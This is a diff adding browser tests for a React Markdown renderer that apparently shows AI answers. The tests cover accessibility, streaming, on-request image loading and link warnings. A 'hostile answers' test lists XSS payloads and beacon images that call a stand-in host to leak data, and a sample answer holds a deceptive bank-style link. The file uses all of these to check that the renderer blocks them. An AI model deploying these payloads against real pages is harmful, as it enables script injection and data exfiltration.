@@ -1,0 +1,323 @@
+import type { ReactNode } from "react";
+import { createRoot } from "react-dom/client";
+import type { Root } from "react-dom/client";
+import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
+import { page } from "vitest/browser";
+
+import { err, ok } from "#domain/result.ts";
+
+import "#ui/styles/base.css";
+
+import { BlockList } from "./block-view.tsx";
+import type { MarkdownSource } from "./feed.ts";
+import { Markdown, StreamingMarkdown } from "./markdown.tsx";
+import type { Block } from "./nodes.ts";
+
+/** The first time, the worker and the formula renderer have to be fetched. */
+const fetched = { timeout: 15_000 };
+
+let root: Root;
+let host: HTMLElement;
+beforeEach(() => {
+  host = document.createElement("div");
+  document.body.append(host);
+  root = createRoot(host);
+});
+afterEach(() => {
+  root.unmount();
+  host.remove();
+  delete document.documentElement.dataset["theme"];
+});
+
+async function show(element: ReactNode): Promise<void> {
+  root.render(element);
+  await expect.poll(() => host.childElementCount).toBeGreaterThan(0);
+}
+
+/** A source that a test writes to. */
+class Typewriter implements MarkdownSource {
+  done = false;
+  readonly #listeners = new Set<() => void>();
+  #text = "";
+
+  getText = (): string => this.#text;
+
+  subscribe = (listener: () => void): (() => void) => {
+    this.#listeners.add(listener);
+    return () => this.#listeners.delete(listener);
+  };
+
+  write(text: string, done = false): void {
+    this.#text += text;
+    this.done = done;
+    for (const listener of this.#listeners) listener();
+  }
+}
+
+const answer = `# Moving without dual writes
+
+Yes: let the old database stay the only writer, and make Postgres a *replica that you can promote*. You give up one thing, going back after the promotion **without losing the writes** made since, and you can buy that back for an hour with a reverse stream. See [the manual](https://www.postgresql.org/docs/current/logical-replication.html) or https://example.com/notes, but not [your-bank.example](https://evil.example/login).
+
+## What it costs you
+
+- Lag: plan for seconds, alert at ten. The ledger's own sequence number tells you the truth, not the clock.
+- One freeze of about forty seconds while the last rows drain.
+  - nested, with \`inline code\` in it
+  - and ~~struck~~ text
+
+\`\`\`sql
+-- the newest row that both sides agree on
+select max(seq) from ledger where checksum = replica_checksum and amount > 40.5 and note = 'done';
+\`\`\`
+
+### In order
+
+1. Copy the tables, smallest first
+2. Follow the log
+   with a second line
+3. Promote
+
+- [x] rehearsed
+- [ ] announced
+
+> A quote keeps its distance.
+>
+> - and may hold a list
+
+| step | who | minutes |
+|------|:---:|--------:|
+| copy | night shift | 40 |
+| freeze | \`ops\` | 1 |
+
+The lag is $\\Delta t = t_1 - t_0$ and costs $5 or $10 a day; in the long run
+
+$$
+L = \\sum_{i=1}^{n} \\frac{w_i}{\\sqrt{1 + r_i^2}}
+$$
+
+![A chart](https://charts.example/lag.png)
+
+<details>raw html is text</details>
+
+---
+
+\`\`\`ts
+export async function promote(replica: Replica): Promise<Result> {
+  const lag = await replica.lag(); // milliseconds
+  if (lag > 10_000) return { ok: false, error: \`too far behind: \${lag}\` };
+  return replica.promote({ force: false, timeout: 30_000 });
+}
+\`\`\`
+`;
+
+describe("the look", () => {
+  const views = ["light", "dark"].flatMap((theme) =>
+    [760, 380].map((width) => [theme, width] as const),
+  );
+  it.each(views)(
+    "shows a rich answer in %s at %i px, nothing wider than the page",
+    async (theme, width) => {
+      document.documentElement.dataset["theme"] = theme;
+      await page.viewport(width, 2_000);
+      const style = { padding: 28, height: 2_000, overflow: "auto" };
+      await show(
+        <div style={style}>
+          <Markdown text={answer} />
+        </div>,
+      );
+      await expect.poll(() => host.querySelectorAll("math").length, fetched).toBe(2);
+      await expect.poll(() => host.querySelectorAll("pre span").length, fetched).toBeGreaterThan(5);
+      await document.fonts.ready;
+      await page.screenshot({ path: `../../../test-results/markdown-${theme}-${width}.png` });
+      expect(host.firstElementChild?.scrollWidth).toBeLessThanOrEqual(width);
+    },
+  );
+});
+
+describe("what it renders", () => {
+  it("names and structures that assistive technology understands", async () => {
+    await show(<Markdown text={answer} />);
+    await expect.element(page.getByRole("heading", { name: "What it costs you" })).toBeVisible();
+    await expect.element(page.getByRole("group", { name: "Code, sql" })).toBeVisible();
+    await expect.element(page.getByRole("table")).toBeVisible();
+    await expect.element(page.getByRole("checkbox", { name: "Done" })).toBeChecked();
+    await expect.element(page.getByRole("checkbox", { name: "To do" })).not.toBeChecked();
+    expect(page.getByRole("button", { name: "Code to clipboard" }).elements()).toHaveLength(2);
+  });
+
+  it("keeps code whole when it is selected", async () => {
+    const code = Array.from({ length: 200 }, (_, line) => `line ${line} of the code`).join("\n");
+    const source = new Typewriter();
+    source.write(`\`\`\`\n${code}`);
+    await show(<StreamingMarkdown source={source} />);
+    const block = host.querySelector("pre");
+    expect(host.querySelectorAll("pre span").length).toBeGreaterThan(1);
+    getSelection()?.selectAllChildren(block ?? host);
+    expect(getSelection()?.toString().trim()).toBe(code);
+    expect(block?.textContent).toBe(code);
+  });
+
+  it("says where links go, and more loudly where their text says otherwise", async () => {
+    await show(<Markdown text={answer} />);
+    const manual = page.getByRole("link", { name: "the manual" }).element();
+    expect(manual.getAttribute("title")).toBe(
+      "https://www.postgresql.org/docs/current/logical-replication.html",
+    );
+    expect(manual.getAttribute("rel")).toBe("noopener noreferrer nofollow");
+    expect(manual.getAttribute("target")).toBe("_blank");
+    await expect
+      .element(page.getByRole("link", { name: "your-bank.example (evil.example)" }))
+      .toBeVisible();
+    await expect
+      .element(page.getByRole("link", { name: "https://example.com/notes", exact: true }))
+      .toBeVisible();
+  });
+
+  it("leaves a formula that cannot be read as it was written", async () => {
+    await show(<Markdown text={"Here $\\notacommand{x}$ and $x^2$."} />);
+    await expect.poll(() => host.querySelectorAll("math").length, fetched).toBe(1);
+    expect(host.textContent).toContain("$\\notacommand{x}$");
+  });
+});
+
+describe("hostile answers", () => {
+  const attacks = [
+    "<script>window.attacked = true</script>",
+    '<img src=x onerror="window.attacked = true">',
+    "[press](javascript:window.attacked=true)",
+    "[press](data:text/html,<script>window.attacked=true</script>)",
+    '<a href="javascript:window.attacked=true">press</a>',
+    "![beacon](https://beacon.example/?q=secret)",
+    "[![beacon](https://beacon.example/in-link)](https://a.example)",
+    "$\\includegraphics{https://beacon.example/math.png}$",
+    "$\\href{javascript:window.attacked=true}{x}$",
+    "$\\url{javascript:window.attacked=true}$",
+    '<link rel="preload" as="image" href="https://beacon.example/preload">',
+    '<svg onload="window.attacked = true">',
+    "<style>@import url(https://beacon.example/style)</style>",
+    "```html\n<img src=x onerror=window.attacked=true>\n```",
+    '![x](https://beacon.example/a.png "title")',
+    "[ref]: javascript:window.attacked=true\n\n[press][ref]",
+  ].join("\n\n");
+
+  it("run nothing, load nothing, and lead nowhere bad", async () => {
+    performance.clearResourceTimings();
+    await show(<Markdown text={attacks} />);
+    await expect.poll(() => host.querySelectorAll("pre span").length, fetched).toBeGreaterThan(0);
+    expect(host.querySelector("script, img, iframe, style, link, object, svg[onload]")).toBeNull();
+    for (const link of host.querySelectorAll("a"))
+      expect(link.protocol).toMatch(/^(?:https?|mailto):$/u);
+    for (const element of host.querySelectorAll("*")) {
+      const handlers = element.getAttributeNames().filter((name) => name.startsWith("on"));
+      expect(handlers).toEqual([]);
+    }
+    const requested = performance
+      .getEntriesByType("resource")
+      .map(({ name }) => new URL(name).host);
+    expect(requested.filter((name) => name.endsWith("beacon.example"))).toEqual([]);
+    expect(Reflect.get(globalThis, "attacked")).toBeUndefined();
+  });
+});
+
+describe("images", () => {
+  it("load only when asked, through the callback, and their blob is freed", async () => {
+    const revoke = vi.spyOn(URL, "revokeObjectURL");
+    const pixel =
+      "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
+    const bytes = Uint8Array.from(atob(pixel), (character) => character.charCodeAt(0));
+    const blobUrl = URL.createObjectURL(new Blob([bytes], { type: "image/png" }));
+    const loadImage = vi.fn<() => Promise<ReturnType<typeof ok<{ blobUrl: string }>>>>(async () =>
+      ok({ blobUrl }),
+    );
+    await show(
+      <Markdown text="![A chart](https://charts.example/lag.png)" loadImage={loadImage} />,
+    );
+    await expect.element(page.getByText("Image at charts.example, not loaded")).toBeVisible();
+    expect(loadImage).not.toHaveBeenCalled();
+    await page.getByRole("button", { name: "Load image" }).click();
+    await expect.element(page.getByRole("img", { name: "A chart" })).toBeInTheDocument();
+    expect(loadImage).toHaveBeenCalledWith("https://charts.example/lag.png");
+    root.render(null);
+    await expect.poll(() => revoke.mock.calls.flat()).toContain(blobUrl);
+    revoke.mockRestore();
+  });
+
+  it("that refuse say so and offer a new tab", async () => {
+    const loadImage = async () => err({ message: "charts.example refused" });
+    await show(
+      <Markdown text="![A chart](https://charts.example/lag.png)" loadImage={loadImage} />,
+    );
+    await page.getByRole("button", { name: "Load image" }).click();
+    await expect.element(page.getByText("charts.example refused")).toBeVisible();
+    const link = page.getByRole("link", { name: "Open in a new tab" }).element();
+    expect(link.getAttribute("href")).toBe("https://charts.example/lag.png");
+  });
+});
+
+describe("a stream", () => {
+  it("never touches what is finished, and ends as the whole text does", async () => {
+    const source = new Typewriter();
+    source.write("# Title\n\nFirst paragraph.\n\n- one\n- two\n\nThe last one");
+    await show(<StreamingMarkdown source={source} />);
+    const sheet = host.firstElementChild;
+    const finished = [...(sheet?.children ?? [])].slice(0, -1);
+    expect(finished).toHaveLength(3);
+    const touched: Node[] = [];
+    const observer = new MutationObserver((records) =>
+      touched.push(...records.map((one) => one.target)),
+    );
+    for (const element of finished) {
+      observer.observe(element, {
+        subtree: true,
+        childList: true,
+        characterData: true,
+        attributes: true,
+      });
+    }
+    for (let word = 0; word < 20; word += 1) {
+      source.write(" goes on,");
+      const written = source.getText().length;
+      await expect.poll(() => host.textContent.length).toBeGreaterThan(written - 30);
+    }
+    source.write(" and ends.\n", true);
+    await expect.poll(() => host.textContent).toContain("and ends.");
+    expect(touched).toEqual([]);
+    for (const [index, element] of finished.entries()) expect(sheet?.children[index]).toBe(element);
+    const streamed = host.innerHTML;
+    root.render(<Markdown text={source.getText()} />);
+    await expect.poll(() => host.innerHTML).toBe(streamed);
+  });
+
+  it("shows an open fence as text and colours it once closed", async () => {
+    const source = new Typewriter();
+    source.write("```ts\nconst answer = 42;\n");
+    await show(<StreamingMarkdown source={source} />);
+    await expect
+      .element(page.getByRole("group", { name: "Code, ts" }))
+      .toHaveTextContent("const answer = 42;");
+    expect(host.querySelector("pre [class*=keyword]")).toBeNull();
+    source.write("```\n");
+    await expect
+      .poll(() => host.querySelector("pre [class*=keyword]")?.textContent, fetched)
+      .toBe("const");
+  });
+
+  it("draws a frozen block once, however often text comes", async () => {
+    let drawn = 0;
+    const frozen: Block = {
+      get kind() {
+        drawn += 1;
+        return "rule" as const;
+      },
+    };
+    for (let length = 1; length <= 10; length += 1) {
+      const open: Block = {
+        kind: "paragraph",
+        groups: [[{ kind: "text", text: "x".repeat(length) }]],
+      };
+      root.render(<BlockList blocks={[frozen, open]} />);
+      await expect.poll(() => host.textContent).toBe("x".repeat(length));
+    }
+    expect(drawn).toBe(1);
+  });
+});
